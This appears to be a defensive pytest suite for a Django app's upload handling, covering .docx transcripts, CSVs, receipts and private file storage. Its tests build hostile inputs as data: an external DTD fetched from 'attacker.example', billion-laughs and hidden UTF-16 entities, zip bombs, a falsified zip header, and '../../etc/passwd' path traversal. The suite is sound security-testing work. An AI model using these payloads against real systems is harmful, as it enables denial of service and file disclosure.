"""Uploads are untrusted: their type is decided by content (not name), sizes are capped before
reading, a .docx is opened as a hostile zip of hostile XML, files are kept outside any web root
and come back only through views that check who is asking."""

import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.storage import storages
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from ehl.settings import base as base_settings
from engagement.models import CostClaim, Transcript
from engagement.services.claims import claim_submit
from engagement.services.registrations import RegistrationError
from engagement.uploads import UploadError, check_text_upload, stored_name
from nlp.text.transcripts import TranscriptError, parse_transcript
from tests.archives import zip_bytes
from tests.factories import FocusGroupFactory, partner_of

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def _png() -> bytes:
    from PIL import Image

    buffer = io.BytesIO()
    Image.new("RGB", (4, 4), "white").save(buffer, "PNG")
    return buffer.getvalue()


PNG = _png()


def _document(body: str, prolog: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-16"?>{prolog}<w:document xmlns:w="{W}"><w:body>'
        f"<w:p><w:r><w:t>{body}</w:t></w:r></w:p></w:body></w:document>"
    )


def _refusal(data: bytes) -> str:
    with pytest.raises(TranscriptError) as caught:
        parse_transcript(data, "meeting.docx")
    return str(caught.value)


# --- .docx as an untrusted zip of XML -------------------------------------------------------------


def test_entities_in_utf16_xml_are_refused_although_no_ascii_bytes_show_them():
    xml = _document("&e;", '<!DOCTYPE d [<!ENTITY e "Jane Smith: smuggled">]>')
    assert b"<!ENTITY" not in xml.encode("utf-16")
    message = _refusal(zip_bytes({"word/document.xml": xml.encode("utf-16")}))
    assert "DTD or entities" in message


def test_a_billion_laughs_document_is_refused():
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10)
    )
    xml = _document("Jane: &a9;", f"<!DOCTYPE d [{entities}]>").replace("UTF-16", "UTF-8")
    assert "DTD or entities" in _refusal(zip_bytes({"word/document.xml": xml.encode()}))


def test_an_external_dtd_after_a_long_comment_is_refused():
    prolog = "<!--" + "x" * 10_000 + '--><!DOCTYPE d SYSTEM "http://attacker.example/x.dtd">'
    xml = _document("Jane: hello", prolog).replace("UTF-16", "UTF-8")
    assert "DTD or entities" in _refusal(zip_bytes({"word/document.xml": xml.encode()}))


def test_a_zip_bomb_spread_over_many_members_is_refused_by_total_size():
    members = {f"word/media/{n}.bin": b"\0" * (9 * 1024 * 1024) for n in range(6)}
    members["word/document.xml"] = _document("Jane: hi").encode("utf-16")
    bomb = zip_bytes(members)
    assert len(bomb) < 1_000_000
    assert "unpack to more than" in _refusal(bomb)


def test_a_member_whose_header_understates_its_size_is_not_inflated_past_the_cap(monkeypatch):
    from nlp.text.transcripts import docx

    monkeypatch.setattr(docx, "MAX_UNCOMPRESSED", 64 * 1024)
    monkeypatch.setattr(docx, "MAX_RATIO", 10**9)
    real = zip_bytes({"word/document.xml": b"<a>" + b"x" * (1024 * 1024) + b"</a>"})
    # Rewrite the central directory's uncompressed size to claim 100 bytes.
    archive = zipfile.ZipFile(io.BytesIO(real))
    info = archive.getinfo("word/document.xml")
    lying = bytearray(real)
    central = real.rindex(b"PK\x01\x02")
    lying[central + 24 : central + 28] = (100).to_bytes(4, "little")
    assert info.file_size > 64 * 1024
    message = _refusal(bytes(lying))
    assert "too large" in message or "damaged" in message


def test_a_zip_named_vtt_is_read_by_its_content_and_a_text_file_named_docx_is_refused():
    docx = zip_bytes({"word/document.xml": _document("Jane Smith: hello there").encode("utf-16")})
    transcript = parse_transcript(docx, "meeting.vtt")
    assert transcript.format == "docx" and "hello there" in transcript.turns[0].text
    with pytest.raises(TranscriptError, match="not a valid zip"):
        parse_transcript(b"Jane: hi", "meeting.docx")


# --- Content, not name, for CSVs and receipts ----------------------------------------------


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"%PDF-1.7\n...", "is a PDF"),
        (b"PK\x03\x04\x14\x00\x06\x00", "Office document"),
        (b"\xff\xfek\x00e\x00y\x00", "UTF-16"),
        (b"key,name\n\x00\x01\x02", "binary"),
        (b"key,name\n\xe9t\xe9\n", "not saved as UTF-8"),
        (b"", "empty"),
    ],
)
def test_csv_uploads_must_be_utf8_text_whatever_they_are_called(content, message):
    upload = SimpleUploadedFile("programmes.csv", content)
    with pytest.raises(UploadError, match=message):
        check_text_upload(upload, max_bytes=1024)


def test_csv_uploads_over_the_limit_say_how_big_they_are_and_what_the_limit_is():
    upload = SimpleUploadedFile("programmes.csv", b"a,b\n" * 2000)
    with pytest.raises(UploadError, match=r"is 8 KB, over the 1 KB limit"):
        check_text_upload(upload, max_bytes=1024)


@pytest.mark.django_db
def test_a_service_map_upload_is_judged_by_content(client, lead):
    client.force_login(lead)
    url = reverse("insights:servicemap_import")
    pdf = SimpleUploadedFile("programmes.csv", b"%PDF-1.4 not a csv")
    html = client.post(url, {"file": pdf}).content.decode()
    assert "is a PDF: it must be a CSV" in html
    named_txt = SimpleUploadedFile("programmes.txt", b"key,name\n")
    html = client.post(url, {"file": named_txt}).content.decode()
    assert "Choose a .csv file" not in html and "missing the columns" in html


@pytest.mark.django_db
def test_a_codebook_csv_called_xml_is_read_as_csv(client, lead):
    from insights.forms_codebook import ImportForm

    form = ImportForm({}, {"file": SimpleUploadedFile("book.xml", b"key,label\nwork,Work\n")})
    assert form.is_valid(), form.errors
    assert form.format == "csv"
    form = ImportForm({}, {"file": SimpleUploadedFile("book.csv", b"\xef\xbb\xbf <CodeBook/>")})
    assert form.is_valid() and form.format == "qdc"


@pytest.mark.django_db
def test_a_receipt_is_stored_and_served_as_what_its_content_is(client, focus_group, partner):
    html_named = SimpleUploadedFile("receipt.html", b"%PDF-1.4\n%%EOF\n", content_type="text/html")
    claim = claim_submit(
        focus_group=focus_group,
        actor=partner,
        category="room-hire",
        amount=5,
        receipt=html_named,
    )
    assert claim.receipt.name.endswith("/receipt.pdf")
    client.force_login(partner)
    response = client.get(reverse("engagement:claim_receipt", args=[claim.public_id]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"


@pytest.mark.django_db
def test_a_damaged_image_receipt_is_refused(focus_group, partner):
    broken = SimpleUploadedFile("receipt.png", PNG[:40] + b"garbage" * 10)
    with pytest.raises(RegistrationError, match="damaged"):
        claim_submit(
            focus_group=focus_group, actor=partner, category="room-hire", amount=5, receipt=broken
        )
    good = SimpleUploadedFile("photo.jpeg.exe", PNG)
    claim = claim_submit(
        focus_group=focus_group, actor=partner, category="room-hire", amount=5, receipt=good
    )
    assert claim.receipt.name.endswith("/photo.jpeg.png")


def test_stored_names_keep_no_path_or_dangerous_characters():
    assert stored_name("../../etc/passwd", "txt") == "passwd.txt"
    assert stored_name('C:\\Users\\x\\"evil" <b>.docx', "docx") == "evil_b.docx"
    assert stored_name("..", "pdf", default="receipt") == "receipt.pdf"


@pytest.mark.django_db
def test_an_oversized_transcript_is_refused_before_it_is_read(client, organisation, consents):
    session = FocusGroupFactory(organisation=organisation, status="completed")
    client.force_login(partner_of(organisation))
    big = SimpleUploadedFile("meeting.vtt", b"WEBVTT\n\n" + b"x" * (6 * 1024 * 1024))
    response = client.post(
        f"/work/transcripts/upload/session/{session.public_id}/",
        {"title": "Recording", "file": big},
    )
    assert "is 6 MB, over the 5 MB limit" in response.content.decode()
    assert not Transcript.objects.exists()


# --- Stored outside the web root, served only through permission checks -------------------


def test_private_files_live_outside_every_web_root_and_have_no_url():
    location = Path(base_settings.STORAGES["private"]["OPTIONS"]["location"]).resolve()
    assert location.is_relative_to(base_settings.VAR_DIR.resolve())
    served = [Path(base_settings.STATIC_ROOT), Path(base_settings.MEDIA_ROOT)]
    served += [Path(d[1] if isinstance(d, tuple) else d) for d in base_settings.STATICFILES_DIRS]
    assert not any(location.is_relative_to(root.resolve()) for root in served)
    assert base_settings.STORAGES["private"]["OPTIONS"]["base_url"] is None
    with pytest.raises(ValueError):
        storages.create_storage(base_settings.STORAGES["private"]).url("receipts/x.pdf")


def test_no_url_serves_uploaded_media_when_debug_is_off():
    from django.urls import Resolver404, get_resolver

    assert not settings.DEBUG
    patterns = [str(p.pattern) for p in get_resolver().url_patterns]
    assert not any(p.startswith(("media", "^media")) for p in patterns)
    with pytest.raises(Resolver404):
        get_resolver().resolve("/documents/../var/private/receipts/x.pdf")


@pytest.mark.django_db
def test_receipts_and_transcript_originals_are_only_for_the_people_allowed(
    client, focus_group, partner, other_organisation
):
    claim = claim_submit(
        focus_group=focus_group,
        actor=partner,
        category="room-hire",
        amount=5,
        receipt=SimpleUploadedFile("r.pdf", b"%PDF-1.4\n%%EOF\n"),
    )
    url = reverse("engagement:claim_receipt", args=[claim.public_id])
    assert client.get(url).status_code == 302  # to sign in
    client.force_login(partner_of(other_organisation))
    assert client.get(url).status_code == 404
    assert CostClaim.objects.count() == 1

    transcript = Transcript.objects.create(
        focus_group=focus_group, title="Recording", format="txt", original_name="x.txt"
    )
    transcript.original.save("x.txt", io.BytesIO(b"Jane: hi"))
    original = reverse("engagement:transcript_original", args=[transcript.public_id])
    assert client.get(original).status_code == 404
    client.force_login(partner)
    assert client.get(original).status_code == 302  # to say why first
    detail = reverse("engagement:transcript_detail", args=[transcript.public_id])
    client.post(detail, {"raw_access": "1", "reason": "Checking the recording"})
    response = client.get(original)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/plain")
    assert response["Content-Disposition"].startswith("attachment;")
